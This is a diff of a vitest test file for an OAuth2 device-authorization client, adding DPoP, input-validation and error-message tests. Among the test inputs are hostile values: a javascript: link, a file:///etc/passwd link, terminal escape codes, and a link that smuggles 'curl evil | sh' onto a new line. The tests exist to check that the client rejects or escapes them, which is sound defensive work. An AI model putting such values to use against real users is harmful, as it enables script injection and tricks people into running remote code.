@@ -1,4 +1,5 @@
 import { inspect } from 'node:util'
+import { decodeProtectedHeader } from 'jose'
 import { describe, expect, onTestFinished, test } from 'vitest'
 import { Credentials } from '../../src/credentials/index.js'
 import {
@@ -24,7 +25,8 @@ describe('with a real authorization server', () => {
     const server = await startAuthorizationServer({ scopes: { 'files.read': {}, 'files.write': {} }, ...options })
     onTestFinished(() => server.close())
     const { issuer, clientId, clientSecret } = server
-    const make = () => new Provider({ provider: { issuer }, clientId, clientSecret })
+    const { dpop = false } = options
+    const make = () => new Provider({ provider: { issuer }, clientId, clientSecret, dpop: Boolean(dpop) })
     return { server, make, provider: make() }
   }
 
@@ -37,6 +39,24 @@ describe('with a real authorization server', () => {
     const consent = await browser.submit(after, 0, { username: 'alice', password: 'password' })
     return browser.submit(consent, 0, { scope: ['files.read'] })
   }
+
+  test('L6: with DPoP, all questions are asked with one key, and the tokens are bound to it', async () => {
+    const { server, provider } = await provided({ dpop: 'nonce' })
+    const authorization = await deviceAuthorization(provider, { scopes: ['openid', 'files.read'] })
+    let waits = 0
+    const tokens = await deviceAuthorizationGrant(provider, authorization, {
+      sleep: async () => {
+        waits += 1
+        if (waits === 2) await enter(authorization)
+      },
+    })
+    expect(tokens).toMatchObject({ tokenType: 'DPoP', claims: { sub: 'sub-alice' } })
+    const shown = server.tokenRequests.map(({ dpop }) => decodeProtectedHeader(dpop as string).jwk)
+    // The first question had to be asked twice, for the nonce.
+    expect(shown).toHaveLength(3)
+    const { d: _, alg: __, ...publicKey } = tokens.dpopKey as NonNullable<typeof tokens.dpopKey>
+    expect(shown).toEqual(shown.map(() => publicKey))
+  })
 
   test('DV-2 DV-5 DV-6 the person enters the code while the program waits, which another process does', async () => {
     const { server, make, provider } = await provided()
@@ -162,10 +182,12 @@ describe('the request', () => {
     ['no device code', { body: { ...codes, device_code: undefined } }, { kind: 'unusable' }],
     ['no link', { body: { ...codes, verification_uri: undefined } }, { kind: 'unusable' }],
     ['a link to a script', { body: { ...codes, verification_uri: 'javascript:alert(1)' } }, { kind: 'unusable' }],
+    ['a link that is none', { body: { ...codes, verification_uri: 'login.example.com' } }, { kind: 'unusable' }],
     ['a link to a file', { body: { ...codes, verification_uri: 'file:///etc/passwd' } }, { kind: 'unusable' }],
     ['a code that moves the cursor', { body: { ...codes, user_code: '\u001b[2J' } }, { kind: 'unusable' }],
+    ['a code that fills the screen', { body: { ...codes, user_code: 'A'.repeat(65) } }, { kind: 'unusable' }],
     ['a redirect', { status: 302, headers: { location: '/token' } }, { kind: 'refused', status: 302 }],
-    ['1 MB', { body: { ...codes, x: 'x'.repeat(1024 * 1024) } }, { kind: 'in_doubt' }],
+    ['1 MB', { body: { ...codes, x: 'x'.repeat(1024 * 1024) } }, { kind: 'unusable', status: 200 }],
     ['no answer', { hang: true }, { kind: 'in_doubt' }],
   ])('DV-3 %s', async (_name, answer, expected) => {
     const { server, provider } = await scripted()
@@ -186,11 +208,14 @@ describe('the request', () => {
     [{ interval: 0 }, { interval: 5 }],
     [{ interval: -1 }, { interval: 5 }],
     [{ interval: 2 }, { interval: 2 }],
+    [{ interval: 86_400 }, { interval: 5 }],
+    [{ user_code: 'A'.repeat(64) }, { userCode: 'A'.repeat(64) }],
     [
       { verification_uri_complete: 'https://login.example.com/device?c=1' },
       { verificationUriComplete: 'https://login.example.com/device?c=1' },
     ],
     [{ verification_uri_complete: 'javascript:alert(1)' }, { verificationUriComplete: undefined }],
+    [{ verification_uri_complete: 'login.example.com?c=1' }, { verificationUriComplete: undefined }],
     [
       { verification_uri: 'https://x.example/\u001b[2J\nrun: curl evil | sh' },
       { verificationUri: 'https://x.example/%1B[2Jrun:%20curl%20evil%20|%20sh' },
@@ -215,7 +240,7 @@ describe('the request', () => {
   })
 })
 
-describe('the value', () => {
+describe('L7: the value', () => {
   test('shows what the person needs, and the device code to serialize() only', async () => {
     const { provider } = await scripted()
     const authorization = await deviceAuthorization(provider, { scopes: ['a'] })
@@ -226,6 +251,7 @@ describe('the value', () => {
       JSON.stringify({ ...authorization }),
     ]
     for (const text of shown) expect(text).not.toContain('canary')
+    expect(inspect(authorization)).toMatch(/^DeviceAuthorization \{ redacted: true,.* userCode: 'ABCD-EFGH'/)
     expect(JSON.parse(JSON.stringify(authorization))).toMatchObject({ userCode: 'ABCD-EFGH', redacted: true })
     const again = DeviceAuthorization.fromJSON(authorization.serialize())
     expect(again).toEqual(authorization)
@@ -233,16 +259,16 @@ describe('the value', () => {
   })
 
   test.each([
-    '',
-    '{',
-    'null',
-    '{}',
-    '[]',
-    '{"redacted":true}',
-    '{"format":"fastify-oauth2client/device-authorization","v":2}',
-  ])('nothing else is taken for one: %s', (text) => {
+    ['', 'JSON'],
+    ['{', 'JSON'],
+    ['null', 'this version'],
+    ['{}', 'this version'],
+    ['[]', 'this version'],
+    ['{"redacted":true}', 'Use serialize()'],
+    ['{"format":"fastify-oauth2client/device-authorization","v":2}', 'this version'],
+  ])('nothing else is taken for one, and what it is instead is said: %s', (text, said) => {
     expect(() => DeviceAuthorization.fromJSON(text)).toThrow(
-      expect.objectContaining({ code: 'FST_OAUTH2_OPTION_INVALID' }),
+      expect.objectContaining({ code: 'FST_OAUTH2_OPTION_INVALID', message: expect.stringContaining(said) }),
     )
   })
 
@@ -250,18 +276,28 @@ describe('the value', () => {
     const { provider } = await scripted()
     const whole = JSON.parse((await deviceAuthorization(provider)).serialize())
     for (const part of [
+      { issuer: '' },
+      { clientId: null },
       { deviceCode: '' },
       { userCode: 5 },
+      { verificationUri: '' },
       { expiresAt: null },
       { interval: '5s' },
+      { interval: 0 },
       { scopes: 'a' },
     ]) {
-      expect(() => DeviceAuthorization.fromJSON(JSON.stringify({ ...whole, ...part }))).toThrow('authorization')
+      const text = JSON.stringify({ ...whole, ...part })
+      expect(() => DeviceAuthorization.fromJSON(text)).toThrow(
+        expect.objectContaining({
+          code: 'FST_OAUTH2_OPTION_INVALID',
+          message: expect.stringMatching(new RegExp(`^Option "authorization": .*"${Object.keys(part)[0]}"`)),
+        }),
+      )
     }
   })
 })
 
-describe('waiting', () => {
+describe('L7: waiting', () => {
   const start = async (answers: Answer[], body: object = codes) => {
     const parts = await scripted(answers, body)
     const authorization = await deviceAuthorization(parts.provider)
@@ -298,6 +334,16 @@ describe('waiting', () => {
     await grant()
     expect(waits).toEqual([5, 10, 30, 35, 35])
     expect(polls.map(({ status }) => status)).toEqual(['slow_down', 'slow_down', 'slow_down', 'pending'])
+  })
+
+  test('slow_down adds five seconds where it says nothing of use besides', async () => {
+    const { grant, waits } = await start([
+      error('slow_down', 400, { interval: 1e300 }),
+      error('slow_down', 400, { interval: -60 }),
+      { status: 400, headers: { 'www-authenticate': 'Bearer error="slow_down"' }, body: '' },
+    ])
+    await grant()
+    expect(waits).toEqual([5, 10, 15, 20])
   })
 
   test('a provider in trouble is asked less and less often, and as before once it answers', async () => {
@@ -353,7 +399,9 @@ describe('waiting', () => {
 
   test('DV-6 the expiry ends it without another request, and says what kept the provider from being asked', async () => {
     const { grant, server, waits } = await start(Array(9).fill(pending), { ...codes, expires_in: 12 })
-    expect(await failureOf(grant())).toMatchObject({ code: 'FST_OAUTH2_DEVICE_CODE_EXPIRED' })
+    const late = await failureOf(grant())
+    expect(late).toMatchObject({ code: 'FST_OAUTH2_DEVICE_CODE_EXPIRED' })
+    expect(late.cause).toBeUndefined()
     expect(waits).toEqual([5, 5, 2])
     expect(server.count('token')).toBe(2)
 
@@ -382,10 +430,12 @@ describe('waiting', () => {
       cause: reason,
     })
     const waiting = new AbortController()
-    const given = failureOf(deviceAuthorizationGrant(provider, authorization, { signal: waiting.signal }))
+    // Longer than any test may take: only the signal can end it.
+    const rare = await start([], { ...codes, interval: 500 })
+    const given = failureOf(deviceAuthorizationGrant(rare.provider, rare.authorization, { signal: waiting.signal }))
     waiting.abort(reason)
     expect(await given).toMatchObject({ code: 'FST_OAUTH2_FLOW_ABORTED', cause: reason })
-    expect(server.count('token')).toBe(0)
+    expect([server.count('token'), rare.server.count('token')]).toEqual([0, 0])
 
     const asking = new AbortController()
     server.tokenAnswer = () => {
@@ -418,11 +468,14 @@ describe('waiting', () => {
     const other = new Provider({ provider: provider.options, clientId: 'other', clientSecret: 'x' })
     const fields = JSON.parse(authorization.serialize())
     const elsewhere = DeviceAuthorization.fromJSON(JSON.stringify({ ...fields, issuer: 'https://other.example' }))
-    for (const attempt of [
-      deviceAuthorizationGrant(other, authorization, options),
-      deviceAuthorizationGrant(provider, elsewhere, options),
-    ]) {
-      expect(await failureOf(attempt)).toMatchObject({ code: 'FST_OAUTH2_OPTION_INVALID' })
+    for (const [attempt, said] of [
+      [deviceAuthorizationGrant(other, authorization, options), 'another client'],
+      [deviceAuthorizationGrant(provider, elsewhere, options), 'another provider'],
+    ] as const) {
+      expect(await failureOf(attempt)).toMatchObject({
+        code: 'FST_OAUTH2_OPTION_INVALID',
+        message: expect.stringMatching(new RegExp(`^Option "authorization": was made for ${said}`)),
+      })
     }
     expect(server.count('token')).toBe(0)
   })
